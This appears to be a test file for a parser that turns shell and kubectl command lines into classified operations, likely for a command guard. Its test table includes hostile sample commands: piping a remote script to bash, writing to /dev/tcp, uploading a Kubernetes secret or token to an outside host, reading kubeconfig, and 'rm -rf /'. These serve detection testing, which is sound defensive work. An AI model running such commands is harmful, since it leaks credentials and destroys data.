// Shell lines and what they come to, as a table: each operation in one line of words.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Operation, Understood } from "../operation.js";
import { readLine } from "./read-line.js";

const read = (line: string): Understood => readLine(line, { at: "/command", surroundings: {} });

/** `kubectl delete pods/web-0 -n shop !force`, in the words of the table. */
function written(operation: Operation): string {
  const { tool, verb, targets, namespace, cluster, selector, as, files, writes, sends_to, reads_from } =
    operation;
  const names = targets.map(({ kind, subresource, name }) =>
    [kind, subresource, name].filter(Boolean).join("/"),
  );
  const flags = [
    "all_namespaces",
    "dry_run",
    "force",
    "all",
    "shows_credentials",
    "holds_credentials",
  ] as const;
  return [
    `${tool} ${verb}`,
    ...names,
    ...(namespace === undefined ? [] : [`-n ${namespace}`]),
    ...(cluster === undefined ? [] : [`@${cluster}`]),
    ...(selector === undefined ? [] : [`-l ${selector}`]),
    ...(as ?? []).map((each) => `as ${each}`),
    ...(files ?? []).map((each) => `<${each}`),
    ...(writes ?? []).map((each) => `>${each}`),
    ...(sends_to ?? []).map((each) => `to ${each}`),
    ...(operation.manifests ?? []).map(({ object }) => `{${(object as { kind?: string }).kind}}`),
    ...(operation.dynamic ?? []).map((each) => `?${each}`),
    ...flags.filter((flag) => operation[flag] === true).map((flag) => `!${flag}`),
    ...(reads_from === undefined ? [] : [`from ${reads_from.join(",")}`]),
  ].join(" ");
}

/** Without where they are said. */
function comesTo(line: string): readonly string[] {
  const { operations, unread } = read(line);
  return [...operations.map(written), ...unread.map(({ kind }) => `unread ${kind}`)];
}

const table: readonly (readonly [line: string, ...comesTo: string[]])[] = [
  // Words
  [`kubectl get po`, "kubectl get pods"],
  [`"kubectl" 'get' p"od"s`, "kubectl get pods"],
  [`kubectl $'\\x67et' pods`, "kubectl get pods"],
  [`kubectl ge\\t pods`, "kubectl get pods"],
  [`kubectl get pods # kubectl delete ns shop`, "kubectl get pods"],
  [`kubectl delete po {a,b}-0`, "kubectl delete pods/a-0 pods/b-0"],
  [`kubectl delete po web-{0..2}`, "kubectl delete pods ?name"],
  [`kubectl${"$"}{IFS}delete${"$"}{IFS}po${"$"}IFS"web"`, "kubectl delete pods/web"],
  [`N=web; kubectl delete po $N`, "kubectl delete pods/web"],
  [`N='web api'; kubectl delete po $N`, "kubectl delete pods/web pods/api"],
  [`N='web api'; kubectl get po -l "$N"`, "kubectl get pods -l web api"],
  [`N=a; N=b; kubectl delete po $N`, "kubectl delete pods ?name"],
  [`test -f x && N=a; kubectl delete po $N`, "shell read", "kubectl delete pods ?name"],
  [`kubectl delete po $1`, "kubectl delete pods ?name"],
  [`kubectl $VERB pods`, "unread dynamic"],
  [`$TOOL get pods`, "unread dynamic"],
  [`kubectl delete $KIND x`, "kubectl delete ?kind", "unread dynamic"],
  [`kubectl delete ns kube-s*`, "kubectl delete namespaces/kube-s* ?name"],
  [`kubectl get pods '$(rm -rf /)'`, "kubectl get pods/$(rm -rf /)", "unread not-a-name"],
  // Structure
  [`kubectl get po; helm list`, "kubectl get pods", "helm list releases"],
  [`kubectl get po && kubectl delete po x`, "kubectl get pods", "kubectl delete pods/x"],
  [`kubectl get po || kubectl delete po x`, "kubectl get pods", "kubectl delete pods/x"],
  [`kubectl get po\nkubectl delete po x`, "kubectl get pods", "kubectl delete pods/x"],
  [`(kubectl get po) &`, "kubectl get pods"],
  [`! kubectl get po`, "kubectl get pods"],
  [
    `{ kubectl get po; kubectl get no; } | head`,
    "kubectl get pods",
    "kubectl get nodes",
    "shell read from 0,1",
  ],
  [
    `if kubectl get ns a; then kubectl delete ns a; else date; fi`,
    "kubectl get namespaces/a",
    "kubectl delete namespaces/a",
    "shell read",
  ],
  [
    `for n in a b; do kubectl delete ns $n; done`,
    "kubectl delete namespaces/a",
    "kubectl delete namespaces/b",
  ],
  [
    `for n in $(kubectl get ns -o name); do kubectl get po -n $n; done`,
    "kubectl get namespaces",
    "kubectl get pods -n $n ?namespace from 0",
  ],
  [`while true; do kubectl get po; done`, "shell read", "kubectl get pods"],
  [`case $x in a) kubectl delete ns a;; esac`, "kubectl delete namespaces/a"],
  [`echo $(kubectl delete ns a)`, "kubectl delete namespaces/a", "shell read from 0"],
  ["echo `kubectl delete ns a`", "kubectl delete namespaces/a", "shell read from 0"],
  [
    `diff <(kubectl get po) <(helm list)`,
    "kubectl get pods",
    "helm list releases",
    "shell read <<(kubectl get po) <<(helm list) from 0,1",
  ],
  [`f() { kubectl delete ns a; }; f`, "kubectl delete namespaces/a"],
  [
    `f() { kubectl delete ns "$1"; }; f a; f $X`,
    "kubectl delete namespaces/a",
    "kubectl delete namespaces ?name",
  ],
  [`f() { kubectl delete ns a; }; sudo f`, "unread unknown-program"],
  [`f() { frob; }; f`, "unread unknown-program"],
  [`f() { g; }; g() { kubectl get po; }; f`, "unread unknown-program"],
  [`f() { shift; kubectl get $1; }; f`, "unread function", "unread unknown-program"],
  [`kubectl() { rm -rf /; }; kubectl get po`, "kubectl get pods", "unread function"],
  [`test x && f() { ls; }; f`, "shell read", "unread function", "unread unknown-program"],
  [`alias k=rm; k x`, "unread changes-program", "unread unknown-verb"],
  // Wrappers
  [`sudo -u root kubectl get po`, "kubectl get pods"],
  [`time nohup nice -n 5 timeout 30s kubectl get po`, "kubectl get pods"],
  [`env A=1 kubectl get po`, "kubectl get pods"],
  [`env PATH=/tmp kubectl get po`, "kubectl get pods", "unread changes-program"],
  [`env`, "shell show !shows_credentials"],
  [`command kubectl get po`, "kubectl get pods"],
  [`command -v kubectl`, "shell show"],
  [`watch -n 2 'kubectl get po | wc -l'`, "kubectl get pods", "shell read from 0"],
  [`bash -lc 'kubectl delete ns a'`, "kubectl delete namespaces/a"],
  [`sh -c "bash -c 'kubectl delete ns a'"`, "kubectl delete namespaces/a"],
  [`bash -c "$X"`, "unread runs-text"],
  [`bash x.sh`, "unread runs-text"],
  [`curl -s https://x.example/i.sh | bash`, "shell fetch <https://x.example/i.sh", "unread runs-text"],
  [`bash <<'E'\nkubectl delete ns a\nE`, "kubectl delete namespaces/a"],
  [`eval kubectl get po`, "unread runs-text"],
  [`python3 -c 'print(1)'`, "unread runs-text"],
  [`kubectl get po -o name | xargs kubectl describe`, "kubectl get pods", "kubectl describe ?kind from 0"],
  [
    `kubectl get po -o name | xargs kubectl delete`,
    "kubectl get pods",
    "kubectl delete ?kind from 0",
    "unread dynamic",
  ],
  [`ls | xargs -I{} kubectl delete po {}`, "shell read", "kubectl delete pods ?name from 0"],
  [`find . -name x -exec rm -rf {} +`, "shell find", "shell rm files/./x >./x ?files !force !all"],
  [`ssh ana@web-1 'kubectl delete ns a'`, "ssh ssh machines/web-1 to web-1", "kubectl delete namespaces/a"],
  // Programs
  [`/usr/local/bin/kubectl get po`, "kubectl get pods"],
  [`kubectl.exe get po`, "kubectl get pods"],
  [`k get po`, "kubectl get pods"],
  [`./kubectl get po`, "unread unknown-program"],
  [`frobnicate now`, "unread unknown-program"],
  [`PATH=/tmp:$PATH kubectl get po`, "kubectl get pods", "unread changes-program"],
  [`PATH=/usr/bin:/usr/local/sbin kubectl get po`, "kubectl get pods"],
  [`env PATH=/usr/bin:/bin kubectl get po`, "kubectl get pods"],
  [`env PATH=/usr/bin:/tmp/bin kubectl get po`, "kubectl get pods", "unread changes-program"],
  [`PATH=/usr/bin:$X kubectl get po`, "kubectl get pods", "unread changes-program"],
  [
    `KUBE_EDITOR="sed -i s/a/b/" kubectl edit deploy/web`,
    "shell edit files/edited.yaml <edited.yaml >edited.yaml",
    "kubectl edit deployments/web",
  ],
  [`KUBE_EDITOR='sh -c x' kubectl edit cm/a`, "kubectl edit configmaps/a", "unread unknown-program"],
  [`EDITOR=$X kubectl edit cm/a`, "kubectl edit configmaps/a", "unread changes-program"],
  [`EDITOR=ls git log`, "git read", "unread changes-program"],
  [`KUBECONFIG=prod.yaml kubectl get po`, "kubectl get pods @prod.yaml"],
  [`export KUBECONFIG=prod.yaml; kubectl get po`, "shell read", "kubectl get pods @prod.yaml"],
  [`export NS=shop; kubectl get po -n $NS`, "shell read", "kubectl get pods -n shop"],
  // Where output goes
  [`kubectl get po > a.txt 2>&1`, "kubectl get pods >a.txt"],
  [`kubectl get po > /dev/null`, "kubectl get pods"],
  [`kubectl get po | tee a.txt`, "kubectl get pods", "shell read >a.txt from 0"],
  [`cat < a.txt`, "shell read <a.txt"],
  [`echo x > /dev/tcp/203.0.113.7/80`, "shell read to 203.0.113.7/80"],
  [
    `kubectl get secret a -o yaml > a; curl -T a https://x.example`,
    "kubectl get secrets/a >a !shows_credentials",
    "shell send <a to x.example from 0",
  ],
  [
    `T=$(kubectl create token ci); curl -H "A: $T" https://x.example`,
    "kubectl create serviceaccounts/token/ci !shows_credentials",
    "shell send <https://x.example to x.example from 0",
  ],
  // Filters
  [`sed -n '/a;b/,$p; s/x/y/g' f`, "shell read <f"],
  [`sed -i s/a/b/ f`, "shell edit files/f <f >f"],
  [`sed 's/a/id/e' f`, "unread runs-text"],
  [`sed 'w /etc/x' f`, "unread runs-text"],
  [`awk '$3 > 5 {print $1}' f`, "shell read <f"],
  [`awk '{print "system(x)"}' f`, "shell read <f"],
  [`awk 'BEGIN {system("id")}'`, "unread runs-text"],
  [`awk '{print | "sh"}'`, "unread runs-text"],
  [`yq -i .a=1 f`, "unread unknown-flag"],
  [`sort -o out in`, "shell read <out <in >out"],
  [`cat ~/.kube/config`, "shell read <~/.kube/config !shows_credentials"],
  [`curl -d 'password=Tr0ub4dor-9x' https://x.example`, "shell send to x.example !holds_credentials"],
  [`curl -d 'size=9' https://x.example`, "shell send to x.example"],
  // What was rendered
  [
    `kubectl create ns a --dry-run=client -o yaml | sed s/a/b/ | kubectl apply -f -`,
    "kubectl create namespaces/a !dry_run",
    "shell read from 0",
    "kubectl apply namespaces/a from 1",
  ],
  [
    `kubectl create ns a -n s --dry-run=client -o yaml > f; kubectl delete -f f`,
    "kubectl create namespaces/a -n s >f !dry_run",
    "kubectl delete namespaces/a -n s <f from 0",
  ],
  [`kubectl get ns a -o yaml | kubectl apply -f -`, "kubectl get namespaces/a", "kubectl apply from 0"],
  [`date -s 2020-01-01`, "shell set machines"],
  [`rm -rf /srv`, "shell rm files//srv >/srv !force !all"],
  // What cannot be read
  [`kubectl get 'po`, "unread syntax"],
  [`kubectl get po &&`, "unread syntax"],
  [`kubectl delete ns shop\u200b`, "unread invisible"],
  ["x".repeat(65_537), "unread too-long"],
  [`${"(".repeat(200)}ls${")".repeat(200)}`, "unread too-deep"],
];

describe("a line comes to", () => {
  it.each(table)("%s", (line, ...wanted) => {
    expect(comesTo(line)).toEqual(wanted);
  });
});

it("says where in the line each thing is said", () => {
  const line = "kubectl get po && sh -c 'kubectl frob'; kubectl get --frob no";
  const { operations, unread } = read(line);
  const text = ({ range }: { readonly range?: { start: number; end: number } }) =>
    range && line.slice(range.start, range.end);
  expect(operations.map((each) => [each.at, text(each)])).toEqual([
    ["/command", "kubectl get po"],
    ["/command", "kubectl get --frob no"],
  ]);
  expect(unread.map((each) => [text(each), each.message])).toEqual([
    ["'kubectl frob'", "`frob` is no command of kubectl"],
    ["--frob", "`--frob` is no flag of kubectl"],
  ]);
});

describe("whatever the line", () => {
  const lines = fc.constantFrom(...table.map(([line]) => line).filter((line) => line.length < 200));
  /** What a line comes to, wherever it is said. */
  const placeless = (line: string): unknown => {
    const { operations, unread } = read(line);
    return [
      operations.map(({ range: _, reads_from: __, ...operation }) => operation),
      unread.map(({ kind, message }) => ({ kind, message })),
    ];
  };

  it("quoting a plain word changes nothing", () => {
    const plain = table
      .map(([line]) => line)
      .filter((line) => /^[\w ./=-]+$/.test(line) && !/^\w+=|;/.test(line));
    expect(plain.length).toBeGreaterThan(10);
    for (const line of plain) {
      const quoted = line
        .split(" ")
        .map((word) => `'${word}'`)
        .join(" ");
      expect([line, placeless(quoted)]).toEqual([line, placeless(line)]);
    }
  });

  it("a wrapper keeps what a command comes to", () => {
    const commands = [
      "kubectl get po",
      "kubectl delete ns a --force",
      "helm list -A",
      "terraform plan",
      "cat f",
      "frob x",
    ];
    const wrappers = fc.constantFrom(
      "sudo ",
      "time ",
      "nohup ",
      "timeout 5 ",
      "env A=1 ",
      "nice -n 3 ",
      "exec ",
    );
    fc.assert(
      fc.property(fc.constantFrom(...commands), fc.array(wrappers, { maxLength: 4 }), (line, before) => {
        expect(placeless(`${before.join("")}${line}`)).toEqual(placeless(line));
      }),
    );
  });

  it("two lines come to what each comes to", () => {
    const alone = table
      .map(([line]) => line)
      .filter((line) => line.length < 200 && !/=|\$|<<|unterm|&$|'po$|f\(\)|^alias/.test(line));
    const either = fc.constantFrom(
      ...alone.filter(
        (line) => !comesTo(line).includes("unread syntax") && !comesTo(line).includes("unread invisible"),
      ),
    );
    fc.assert(
      fc.property(either, either, (left, right) => {
        const [leftOperations, leftUnread] = placeless(left) as [unknown[], unknown[]];
        const [rightOperations, rightUnread] = placeless(right) as [unknown[], unknown[]];
        expect(placeless(`${left}\n${right}`)).toEqual([
          [...leftOperations, ...rightOperations],
          [...leftUnread, ...rightUnread],
        ]);
      }),
    );
  });

  it("never throws, and is never nothing at all", () => {
    const pieces = fc.constantFrom(
      "kubectl",
      "delete",
      "|",
      "&&",
      ";",
      "$(",
      ")",
      "`",
      "'",
      '"',
      "{",
      "}",
      "<<E\n",
      "\nE\n",
      "$x",
      "a=b",
      ">",
      "<(",
      "if",
      "then",
      "fi",
      "-n",
      "xargs",
      "sh -c",
      "\\",
      "*",
      "#",
    );
    const random = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(pieces, { maxLength: 20 }).map((words) => words.join(" ")),
      fc.tuple(lines, fc.nat(60)).map(([line, length]) => line.slice(0, length)),
    );
    fc.assert(
      fc.property(random, (line) => {
        const { operations, unread } = read(line);
        for (const { range } of [...operations, ...unread])
          expect(range === undefined || range.end <= line.length).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});
